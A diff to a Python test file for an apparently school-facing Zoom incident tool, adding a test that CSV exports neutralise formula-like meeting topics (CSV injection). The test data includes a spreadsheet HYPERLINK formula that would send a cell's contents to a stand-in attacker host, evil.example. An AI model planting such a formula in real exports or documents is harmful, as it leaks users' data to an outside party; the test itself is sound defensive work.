@@ -127,5 +127,24 @@ def test_the_export_is_csv_without_pupils_and_is_audited(services, web, incident
         ("dsl@gatehouse.sch.uk", 1, {"rule": "external_participant"})]
 
 
+FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "+1", "-2", "@SUM(A1:A9)")
+
+
+def test_a_topic_that_would_be_a_formula_is_exported_as_text(services, web, notifier):
+    """OWASP's CSV injection: a spreadsheet would run a cell that starts with = + - or @ (tab and CR too, but the
+    event model trims them off a topic: tests/test_spreadsheet.py)."""
+    pipeline = Pipeline.on_redis(services.config, services.redis, services.clock, services.incidents, notifier)
+    for number, topic in enumerate(FORMULAS):
+        uuid = f"formula-{number}=="
+        for event in (zoom.joined(zoom.T0, "p1", PUPIL, uuid=uuid),
+                      zoom.joined(zoom.T0, "p2", "pupil.two@gatehouse.sch.uk", uuid=uuid),
+                      zoom.joined(zoom.T0 + 1, "x", "", uuid=uuid)):
+            event["payload"]["object"]["topic"] = topic
+            pipeline.process(event)
+    response = signed_in(services, web, "dsl").get("/incidents.csv?rule=external_participant")
+    rows = list(csv.DictReader(io.StringIO(response.data.decode(), newline="")))
+    assert sorted(r["topic"] for r in rows) == sorted("'" + topic for topic in FORMULAS)
+
+
 def test_only_those_who_triage_may_export(services, web, incidents_in_a_lesson):
     assert signed_in(services, web, "viewer").get("/incidents.csv").status_code == 403
